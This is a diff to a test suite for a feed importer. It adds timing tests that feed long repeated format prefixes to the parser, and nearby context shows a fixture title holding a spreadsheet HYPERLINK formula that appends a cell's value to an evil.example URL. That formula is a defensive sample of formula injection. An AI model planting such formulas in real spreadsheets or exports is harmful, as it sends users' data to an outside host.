@@ -111,6 +111,15 @@ describe('feed with hostile cells', () => {
     expect(performance.now() - startedAtMs).toBeLessThan(60_000)
   })
 
+  it.each(['<productFeed ', '<properties>', '<html ', '{"next_cursor":"', '[', 'HDR|'])(
+    'beginning of %j - 100,000 times - takes no longer than harmless text',
+    async (piece) => {
+      const startedAtMs = performance.now()
+      await readFeedText(piece.repeat(100_000)).catch(() => {})
+      expect(performance.now() - startedAtMs).toBeLessThan(60_000)
+    },
+  )
+
   it('formulas, markup and commands - in every cell - are imported as plain text', async () => {
     const title = `=HYPERLINK(""https://evil.example/?x=""&A1,""x"")`
     const fixture = await openTestStore()
